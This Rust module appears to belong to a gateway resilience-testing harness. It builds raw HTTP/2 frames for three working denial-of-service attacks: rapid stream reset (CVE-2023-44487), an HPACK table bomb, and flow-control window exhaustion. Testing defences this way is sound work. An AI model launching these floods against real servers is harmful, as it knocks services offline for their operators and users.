//! Attacks in HTTP/2, in frames written by hand (RFC 9113, RFC 7541).

use std::cell::Cell;
use std::rc::Rc;
use std::time::Instant;

use tokio::io::AsyncReadExt;
use tokio::net::TcpStream;

use super::crowd::{PATIENCE, in_words, repeat, run, send};
use super::{Target, seconds};
use crate::failure::Outcome;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const WINDOW_UPDATE: u8 = 8;
/// END_STREAM and END_HEADERS.
const WHOLE: u8 = 5;

/// Streams that are opened and reset on each connection, as long as it lives.
const RESETS: u32 = 10_000;
/// Streams at once, as many as are allowed.
const STREAMS: u32 = 128;
/// Connections with that many, fewer in all than the 10,000 requests that the config lets be in flight.
const STREAMING: usize = 70;

/// Streams that are reset as soon as they are opened (CVE-2023-44487).
pub(super) fn rapid_reset(target: &Target) -> Outcome<String> {
    let block = request(target);
    let streams = (0..RESETS).map(|number| 2 * number + 1);
    let frames: Vec<u8> = streams
        .flat_map(|stream| {
            [frame(HEADERS, WHOLE, stream, &block), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
        })
        .collect();
    let bytes = [PREFACE, &frames].concat();
    repeat(target.address, 20, move |stream| until_ended(stream, bytes.clone()))
}

/// One large entry of the table, and references to it.
pub(super) fn hpack_bombs(target: &Target) -> Outcome<String> {
    let value = "x".repeat(3_900);
    let bomb = [&[0x82, 0x86, 0x84, 0x40][..], &string("b"), &string(&value), &[0xbe; 4_000]].concat();
    let bytes = [PREFACE, &frame(HEADERS, WHOLE, 1, &bomb)].concat();
    repeat(target.address, 100, move |stream| until_ended(stream, bytes.clone()))
}

/// Answers that the client asks for and gives no window to.
pub(super) fn closed_windows(target: &Target) -> Outcome<String> {
    let started = Instant::now();
    let block = request(target);
    let streams = (0..STREAMS).map(|number| 2 * number + 1);
    let frames: Vec<u8> = streams.flat_map(|stream| frame(HEADERS, WHOLE, stream, &block)).collect();
    let no_window = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let large = frame(WINDOW_UPDATE, 0, 0, &[0x70, 0, 0, 0]);
    let bytes = [PREFACE, &no_window, &large, &frames].concat();
    let resets = Rc::new(Cell::new(0));
    let counted = Rc::clone(&resets);
    let outcomes = run(target.address, STREAMING, move |mut stream| {
        let (bytes, counted) = (bytes.clone(), Rc::clone(&counted));
        async move {
            send(&mut stream, &bytes).await;
            let reset = tokio::time::timeout(PATIENCE / 2, all_reset(&mut stream)).await;
            let Ok(count) = reset else { return "streams left open".to_owned() };
            counted.set(counted.get() + count);
            "all streams reset".to_owned()
        }
    });
    Ok(format!("{}, {} streams after {}", in_words(&outcomes?), resets.get(), seconds(started)))
}

/// Reads frames until each stream was reset or the connection has ended; how many were.
async fn all_reset(stream: &mut TcpStream) -> u32 {
    let (mut count, mut head) = (0, [0; 9]);
    while count < STREAMS && stream.read_exact(&mut head).await.is_ok() {
        let [high, middle, low, kind, ..] = head;
        let length = u32::from_be_bytes([0, high, middle, low]);
        let mut payload = vec![0; usize::try_from(length).unwrap_or(0)];
        if stream.read_exact(&mut payload).await.is_err() {
            break;
        }
        count += u32::from(kind == RST_STREAM);
    }
    count
}

/// Sends what the gateway takes, then reads to the end of the connection.
async fn until_ended(mut stream: TcpStream, bytes: Vec<u8>) -> String {
    let (mut reader, mut writer) = stream.split();
    let write = async { drop(tokio::io::AsyncWriteExt::write_all(&mut writer, &bytes).await) };
    let read = async {
        let mut chunk = [0; 4096];
        while let Ok(1..) = reader.read(&mut chunk).await {}
    };
    match tokio::time::timeout(PATIENCE, async { tokio::join!(write, read) }).await {
        Ok(_) => "ended".to_owned(),
        Err(_) => "left open".to_owned(),
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [length.get(1..).unwrap_or_default(), &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The request that is admitted, as a header block without a table.
fn request(target: &Target) -> Vec<u8> {
    let mut lines = target.read.lines();
    let path = lines.next().and_then(|line| line.split(' ').nth(1)).unwrap_or("/");
    let pseudo = [(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", path)];
    let fields = lines.filter_map(|line| line.split_once(": ")).filter(|(name, _)| *name != "host");
    let literal = |(name, value): (&str, &str)| [&[0], &*string(name), &*string(value)].concat();
    pseudo.into_iter().chain(fields).flat_map(literal).collect()
}

/// A string without Huffman coding (RFC 7541 5.2).
fn string(text: &str) -> Vec<u8> {
    let length = text.len();
    let mut bytes = vec![u8::try_from(length.min(127)).unwrap_or(127)];
    if let Some(mut rest) = length.checked_sub(127) {
        while rest >= 128 {
            bytes.push(u8::try_from(rest % 128).unwrap_or(0) | 128);
            rest /= 128;
        }
        bytes.push(u8::try_from(rest).unwrap_or(0));
    }
    bytes.extend_from_slice(text.as_bytes());
    bytes
}

#[test]
fn strings_are_framed_by_their_length() {
    assert_eq!(string("ab"), b"\x02ab");
    assert_eq!(string(&"x".repeat(127))[..3], *b"\x7f\x00x");
    assert_eq!(string(&"x".repeat(3_900))[..4], *b"\x7f\xbd\x1dx");
    assert_eq!(frame(HEADERS, WHOLE, 3, b"x"), b"\0\0\x01\x01\x05\0\0\0\x03x");
}
